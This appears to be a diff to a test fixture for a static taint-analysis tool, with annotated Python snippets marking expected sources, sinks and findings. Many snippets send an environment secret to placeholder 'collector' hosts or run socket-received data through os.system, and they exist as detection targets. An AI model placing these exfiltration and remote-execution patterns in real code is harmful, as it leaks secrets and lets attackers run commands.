@@ -25,8 +25,8 @@ def connect_to():
 
 def connected():
     s = socket.socket()  #~ ok
-    s.connect(("tcp.collector.example", 443))  #~ capability(NETWORK), endpoint("tcp.collector.example")
-    s.send(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f3, sink(egress.socket) f3, finding(traced) f3, capability(NETWORK)
+    s.connect(("tcp.collector.example", 443))  #~ endpoint("tcp.collector.example")
+    s.send(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f3, sink(egress.socket) f3, finding(traced) f3
 
 
 def datagram():
@@ -79,7 +79,6 @@ def own_address():
 
 def listening():
     s = socket.socket()
-    s.bind(("127.0.0.1", 80))  #~ capability(NETWORK)
     s.bind(("127.0.0.1", 80))  #~ ok
     s.setsockopt(1, 2, os.getenv("T"))  #~ ok
     requests.post(U, data=str(s))  #~ ok
@@ -91,6 +90,10 @@ def listening():
     requests.post(U, data={"same": s.getsockname()[0] == "127.0.0.1"})  #~ ok
 
 
+def bound(s: socket.socket):
+    s.bind(("127.0.0.1", 80))  #~ capability(NETWORK)
+
+
 def pair():
     a, b = socket.socketpair()  #~ capability(IPC)
     a, b = socket.socketpair()  #~ ok
@@ -99,13 +102,13 @@ def pair():
 def accepted():
     server = socket.socket()
     client, address = server.accept()
-    client.sendall(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f14, sink(egress.socket) f14, finding(traced) f14, capability(NETWORK)
+    client.sendall(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f15, sink(egress.socket) f15, finding(traced) f15
 
 
 def commanded():
     server = socket.socket()
     client, address = server.accept()
-    os.system(client.recv(100))  #~ source(NETWORK) f15, sink(exec.command) f15, finding(traced) f15
+    os.system(client.recv(100))  #~ source(NETWORK) f16, sink(exec.command) f16, finding(traced) f16
 
 
 def accepted_constant():
@@ -117,13 +120,13 @@ def accepted_constant():
 
 def wrapped_old():
     s = ssl.wrap_socket(socket.socket())  #~ capability(NETWORK)
-    s.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f17, sink(egress.socket) f17, finding(traced) f17
+    s.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f18, sink(egress.socket) f18, finding(traced) f18
 
 
 def wrapped():
     context = ssl.create_default_context()
     s = context.wrap_socket(socket.socket(), server_hostname="tls.collector.example")  #~ capability(NETWORK), endpoint("tls.collector.example")
-    s.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f18, sink(egress.socket) f18, finding(traced) f18
+    s.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f19, sink(egress.socket) f19, finding(traced) f19
 
 
 def wrapped_constant():
@@ -132,8 +135,8 @@ def wrapped_constant():
 
 
 def certificate():
-    pem = ssl.get_server_certificate(("cert.collector.example", 443))  #~ source(NETWORK) f20, capability(NETWORK)
-    os.system(pem)  #~ sink(exec.command) f20, finding(traced) f20
+    pem = ssl.get_server_certificate(("cert.collector.example", 443))  #~ source(NETWORK) f21, capability(NETWORK)
+    os.system(pem)  #~ sink(exec.command) f21, finding(traced) f21
 
 
 def certificate_compared():
@@ -141,8 +144,8 @@ def certificate_compared():
 
 
 def ready_sockets():
-    readable, writable, failed = select.select([os.getenv("T")], [], [])  #~ source(ENVIRONMENT) f22
-    requests.post(U, data=readable)  #~ sink(egress.http) f22, finding(traced) f22
+    readable, writable, failed = select.select([os.getenv("T")], [], [])  #~ source(ENVIRONMENT) f23
+    requests.post(U, data=readable)  #~ sink(egress.http) f23, finding(traced) f23
 
 
 def others_ready():
@@ -152,17 +155,19 @@ def others_ready():
 
 class Commands(socketserver.StreamRequestHandler):
     def handle(self):
-        os.system(self.rfile.readline())  #~ source(NETWORK) f24, sink(exec.command) f24, finding(traced) f24
+        os.system(self.rfile.readline())  #~ source(NETWORK) f25, sink(exec.command) f25, finding(traced) f25
 
 
 class Leak(socketserver.StreamRequestHandler):
     def handle(self):
-        self.wfile.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f25, sink(egress.socket) f25, finding(traced) f25
+        self.wfile.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f26, sink(egress.socket) f26, finding(traced) f26
 
 
 class Datagram(socketserver.BaseRequestHandler):
     def handle(self):
-        os.system(self.request.recv(10))  #~ source(NETWORK) f26, sink(exec.command) f26, finding(traced) f26
+        buffer = bytearray(10)
+        self.request.recv_into(buffer)  #~ source(NETWORK) f27
+        os.system(buffer)  #~ sink(exec.command) f27, finding(traced) f27
 
 
 class Echo(socketserver.StreamRequestHandler):
@@ -178,19 +183,19 @@ def serve():
 
 
 async def stream_read():
-    reader, writer = await asyncio.open_connection("aio.collector.example", 443)  #~ source(NETWORK) f29, capability(NETWORK), endpoint("aio.collector.example")
-    os.system(await reader.read(100))  #~ sink(exec.command) f29, finding(traced) f29
+    reader, writer = await asyncio.open_connection("aio.collector.example", 443)  #~ source(NETWORK) f30, capability(NETWORK), endpoint("aio.collector.example")
+    os.system(await reader.read(100))  #~ sink(exec.command) f30, finding(traced) f30
 
 
 async def stream_read_exactly():
-    reader, writer = await asyncio.open_connection("aio.collector.example", 443)  #~ source(NETWORK) f30
-    os.system(await reader.readexactly(100))  #~ sink(exec.command) f30, finding(traced) f30
+    reader, writer = await asyncio.open_connection("aio.collector.example", 443)  #~ source(NETWORK) f31
+    os.system(await reader.readexactly(100))  #~ sink(exec.command) f31, finding(traced) f31
 
 
 async def stream_write():
     reader, writer = await asyncio.open_connection("aio.collector.example", 443)
-    writer.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f31
-    await writer.drain()  #~ sink(egress.socket) f31, finding(traced) f31
+    writer.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f32
+    await writer.drain()  #~ sink(egress.socket) f32, finding(traced) f32
 
 
 async def stream_constant():
@@ -214,11 +219,11 @@ async def stream_server():
 
 
 async def typed_reader(reader: asyncio.StreamReader):
-    os.system(await reader.readline())  #~ source(NETWORK) f36, sink(exec.command) f36, finding(traced) f36
+    os.system(await reader.readline())  #~ source(NETWORK) f37, sink(exec.command) f37, finding(traced) f37
 
 
 async def typed_writer(writer: asyncio.StreamWriter):
-    writer.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f37, sink(egress.socket) f37, finding(traced) f37
+    writer.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f38, sink(egress.socket) f38, finding(traced) f38
 
 
 async def typed_constants(reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
@@ -227,11 +232,11 @@ async def typed_constants(reader: asyncio.StreamReader, writer: asyncio.StreamWr
 
 
 async def loop_send(loop, s):
-    await loop.sock_sendall(s, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f39, sink(egress.socket) f39, finding(traced) f39, capability(NETWORK)
+    await loop.sock_sendall(s, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f40, sink(egress.socket) f40, finding(traced) f40, capability(NETWORK)
 
 
 async def loop_receive(loop, s):
-    os.system(await loop.sock_recv(s, 100))  #~ source(NETWORK) f40, sink(exec.command) f40, finding(traced) f40
+    os.system(await loop.sock_recv(s, 100))  #~ source(NETWORK) f41, sink(exec.command) f41, finding(traced) f41
 
 
 async def loop_constants(loop, s):
@@ -241,12 +246,12 @@ async def loop_constants(loop, s):
 
 def telnet_write():
     t = telnetlib.Telnet("telnet.collector.example")  #~ capability(NETWORK), endpoint("telnet.collector.example")
-    t.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f42, sink(egress.socket) f42, finding(traced) f42
+    t.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f43, sink(egress.socket) f43, finding(traced) f43
 
 
 def telnet_read():
     t = telnetlib.Telnet("telnet.collector.example")
-    os.system(t.read_until(b"\n"))  #~ source(NETWORK) f43, sink(exec.command) f43, finding(traced) f43
+    os.system(t.read_until(b"\n"))  #~ source(NETWORK) f44, sink(exec.command) f44, finding(traced) f44
 
 
 def telnet_constants():
@@ -256,12 +261,12 @@ def telnet_constants():
 
 
 def packet():
-    send(IP(dst="192.0.2.7") / Raw(os.getenvb(b"T")))  #~ source(ENVIRONMENT) f45, sink(egress.socket) f45, finding(traced) f45, capability(NETWORK)
+    send(IP(dst="192.0.2.7") / Raw(os.getenvb(b"T")))  #~ source(ENVIRONMENT) f46, sink(egress.socket) f46, finding(traced) f46, capability(NETWORK)
 
 
 def packet_sniffed():
-    packets = sniff(count=1)  #~ source(NETWORK) f46, capability(NETWORK)
-    os.system(packets[0].load)  #~ sink(exec.command) f46, finding(traced) f46
+    packets = sniff(count=1)  #~ source(NETWORK) f47, capability(NETWORK)
+    os.system(packets[0].load)  #~ sink(exec.command) f47, finding(traced) f47
 
 
 def packet_constants():
